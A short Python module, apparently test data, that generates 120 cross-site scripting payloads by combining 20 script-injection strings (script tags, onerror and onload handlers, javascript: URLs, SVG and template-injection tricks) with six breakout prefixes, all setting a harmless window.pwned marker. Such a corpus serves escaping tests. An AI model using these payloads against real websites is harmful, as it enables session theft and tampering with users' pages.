"""120 texts that would run a script where one output forgot to escape: 20 scripts in 6 dresses."""

from __future__ import annotations

_RUN = "window.pwned=1"
_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"javascript:{_RUN}",
    f'<object data="data:text/html,<script>{_RUN}</script>"></object>',
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    f"<base href=javascript:{_RUN}//>",
    f"<style>*{{animation:x}}@keyframes x{{}}</style><p onanimationstart={_RUN}>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"<scr\x00ipt>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;<script>{_RUN}</script>",
)
_DRESSES = (
    "{}",
    '">{}',
    "'>{}",
    "</title></textarea></style></script>{}",
    "]]>-->{}",
    '" onmouseover=window.pwned=1 x="{}',
)
PAYLOADS = [dress.replace("{}", script) for script in _SCRIPTS for dress in _DRESSES]
